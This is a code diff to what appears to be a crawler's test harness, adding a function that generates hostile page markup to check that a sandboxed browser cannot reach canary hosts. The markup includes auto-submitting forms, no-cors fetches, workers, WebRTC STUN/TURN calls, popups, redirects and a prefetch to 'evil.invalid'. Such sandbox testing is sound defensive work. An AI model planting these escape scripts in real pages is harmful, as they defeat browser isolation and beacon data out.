@@ -455,11 +455,107 @@ def hostile(canary: str) -> str:
     return cards + script
 
 
-def tag_page(world: World, tag: str, canary: str | None = None) -> str:
+# A hostile listing's ways out of the browser, one listing each (see escapes()).
+# "in_page" keeps the page where it is; the others navigate the tab away.
+ESCAPE_CHANNELS = ("in_page", "form", "meta_refresh", "location", "rewrite")
+# Same-origin paths of the hostile mirror that redirect to a canary: the first
+# hop is the mirror's, only the redirect leaves it.
+ESCAPE_REDIRECTS = ("fetch", "iframe", "script", "post", "worker", "popup", "location")
+
+
+def escapes(
+    canary: str, other: str, udp_port: int, turn_port: int
+) -> tuple[dict[str, str], dict[str, tuple[str, str]]]:
+    """What a hostile listing does to get out of the crawler's browser.
+
+    ``canary`` and ``other`` are hosts the browser must never reach (another
+    port of the mirror's address, another loopback address), ``udp_port`` a
+    STUN listener and ``turn_port`` a TURN-over-TCP one. Returns the markup of
+    each channel (:data:`ESCAPE_CHANNELS`) and the scripts the mirror serves
+    for them (path -> (type, body)); the mirror's :data:`ESCAPE_REDIRECTS`
+    paths (``/_sim/escape/<name>``) are to redirect to ``canary``.
+    """
+    c, d = json.dumps(canary), json.dumps(other)
+    grab = f"var c={c},d={d};function q(f){{try{{f()}}catch(e){{}}}}"
+    fetches = (
+        "q(function(){fetch(c+'/from-worker',{mode:'no-cors'}).catch(function(){})});"
+        "q(function(){fetch(d+'/from-worker',{mode:'no-cors'}).catch(function(){})});"
+        "q(function(){fetch('/_sim/escape/fetch').catch(function(){})});"
+    )
+    worker = grab + fetches
+    blob = json.dumps(worker)
+    ice = json.dumps(
+        {
+            "iceServers": [
+                {"urls": f"stun:127.0.0.1:{udp_port}"},
+                {"urls": f"stun:127.0.0.2:{udp_port}"},
+                {
+                    "urls": f"turn:127.0.0.1:{turn_port}?transport=tcp",
+                    "username": "u",
+                    "credential": "p",
+                },
+                {
+                    "urls": f"turn:127.0.0.1:{udp_port}?transport=udp",
+                    "username": "u",
+                    "credential": "p",
+                },
+            ]
+        }
+    )
+    in_page = (
+        f'<link rel="preconnect" href={c}><link rel="preconnect" '
+        f'href="{other.replace("http:", "https:")}"><link rel="dns-prefetch" href="//evil.invalid">'
+        f"<script>(function(){{{grab}"
+        "q(function(){fetch('/_sim/escape/fetch',{mode:'no-cors'}).catch(function(){})});"
+        "q(function(){fetch('/_sim/escape/post',{method:'POST',mode:'no-cors',"
+        "body:'egg'}).catch(function(){})});"
+        "q(function(){var f=document.createElement('iframe');f.src='/_sim/escape/iframe';"
+        "document.body.appendChild(f)});"
+        "q(function(){var s=document.createElement('script');s.src='/_sim/escape/script';"
+        "document.head.appendChild(s)});"
+        "q(function(){new Worker('/_sim/escape/worker.js')});"
+        "q(function(){new Worker(URL.createObjectURL(new Blob([" + blob + "],"
+        "{type:'text/javascript'})))});"
+        "q(function(){new SharedWorker(URL.createObjectURL(new Blob([" + blob + "],"
+        "{type:'text/javascript'})))});"
+        "q(function(){navigator.serviceWorker.register('/_sim/escape/sw.js')"
+        ".catch(function(){})});"
+        "q(function(){var pc=new RTCPeerConnection(" + ice + ");pc.createDataChannel('x');"
+        "pc.createOffer().then(function(o){return pc.setLocalDescription(o)})"
+        ".catch(function(){})});"
+        "q(function(){window.open('/_sim/escape/popup')});"
+        "q(function(){window.open(d+'/popup')});"
+        "})();</script>"
+    )
+    markup = {
+        "in_page": in_page,
+        "form": (
+            f"<script>(function(){{{grab}var f=document.createElement('form');"
+            "f.method='POST';f.action=c+'/form';var i=document.createElement('input');"
+            "i.name='egg';i.value='x';f.appendChild(i);document.body.appendChild(f);"
+            "f.submit()})();</script>"
+        ),
+        "meta_refresh": f'<meta http-equiv="refresh" content="0;url={escape(other)}/refresh">',
+        "location": "<script>location.href='/_sim/escape/location'</script>",
+        # No navigation at all: the document is replaced by one with no listing.
+        "rewrite": (
+            "<script>setTimeout(function(){document.open();"
+            "document.write('<p>nothing here</p>');document.close()},0)</script>"
+        ),
+    }
+    files = {
+        "/_sim/escape/worker.js": ("text/javascript", worker),
+        "/_sim/escape/sw.js": ("text/javascript", worker),
+    }
+    return markup, files
+
+
+def tag_page(world: World, tag: str, canary: str | None = None, extra: str = "") -> str:
     posts = world.tagged(tag)
     cards = "".join(preview_card(p, "tag_recommended_feed", i) for i, p in enumerate(posts[:BATCH]))
     if canary is not None:
         cards += hostile(canary)
+    cards += extra
     # Later batches arrive by script as the reader scrolls, as on Medium.
     script = (
         "<script>(function(){var page=1,busy=false,done=false;"
